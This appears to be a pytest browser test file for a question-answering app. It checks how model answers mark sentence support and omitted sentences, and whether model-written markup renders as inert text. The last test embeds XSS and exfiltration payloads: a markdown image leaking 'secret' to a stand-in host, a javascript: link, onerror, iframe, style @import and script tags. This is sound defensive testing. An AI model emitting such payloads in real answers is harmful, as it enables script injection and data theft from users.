"""What a language model wrote, in Chromium: the mark of each sentence's support, what was left out, who wrote it."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest

from tests.models.scripted_server import ScriptedServer
from tests.pages.test_page_ask import ask
from tests.writing.scripted import FERRY, Scripted


@pytest.fixture
def written(serve, monkeypatch):
    """Starts a server with one document whose language model says what it is told to."""

    def start(*replies, **changes):
        monkeypatch.setattr("api.services.make_language_model", lambda settings: Scripted(*replies))
        return serve(write="always", **changes)

    return start


def fill(server) -> None:
    (document,) = server.upload(("ferry.md", FERRY.encode())).json()["documents"]
    assert server.settled(document["id"])["state"] == "ready"


def test_each_sentence_says_how_it_is_supported(written, open_page):
    true, false = "The ferry leaves from pier 7 at 08:30 [1].", "It carries 1,300 passengers <b>[1]</b>."
    with written(f"{true} {false}", unsupported="mark") as server:
        fill(server)
        exchange = ask(open_page(server), "Explain from where the ferry leaves.")
        first, second = exchange.locator(".answer-sentence").all()
        assert first.locator(".support").get_attribute("aria-label").startswith("Supported by its sources")
        assert first.locator(".proof-mark").count() == 1
        assert second.locator(".support").inner_text() == "not in the sources: 1,300"
        assert second.locator(".proof-mark").count() == 0
        assert second.locator("b").count() == 0
        assert "Written by scripted" in exchange.locator(".written-by").inner_text()


def test_what_was_left_out_is_said_quietly(written, open_page):
    with written("The ferry leaves from pier 7 at 08:30 [1]. It carries 1,300 passengers [1].") as server:
        fill(server)
        exchange = ask(open_page(server), "Explain from where the ferry leaves.")
        assert exchange.locator(".answer-sentence").count() == 1
        assert "One sentence was left out" in exchange.locator(".written-by").inner_text()


def test_t42_t43_markup_that_a_model_writes_is_text_and_asks_for_nothing(serve, open_page):
    evil = (
        "The ferry leaves from pier 7 at 08:30 [1]. It carries 1,200 passengers and 40 cars "
        "![pier](http://192.0.2.1/p.png?q=secret) [tickets](javascript:document.body.dataset.ran='1') "
        "<img src=x onerror=\"document.body.dataset.ran='1'\"> <iframe src=//192.0.2.1/f></iframe> "
        "<style>@import url(//192.0.2.1/s.css)</style> <script>document.body.dataset.ran='1'</script> "
        "<a href=http://192.0.2.1/a>here</a> http://192.0.2.1/bare [1]."
    )
    with ScriptedServer(evil) as model:
        settings = {"generator": f"openai:{model.url}#scripted", "write": "always", "unsupported": "mark"}
        with serve(**settings) as server:
            fill(server)
            page = open_page(server)
            page.wait_for_load_state("networkidle")
            asked = []
            page.on("request", lambda request: asked.append(urlsplit(request.url).path))
            exchange = ask(page, "Explain from where the ferry leaves.")
            said = exchange.locator(".answer-text").inner_text()
            page.wait_for_timeout(300)
            assert model.calls
            for written in ("![pier](http://192.0.2.1/p.png?q=secret)", "onerror=", "<iframe", "<script>", "/bare"):
                assert written in said
            inside = exchange.locator(".answer-text")
            assert inside.locator("a, img, iframe, script, style, object, embed, video, form").count() == 0
            assert page.evaluate("document.body.dataset.ran") is None
            assert set(asked) <= {"/v1/ask"}
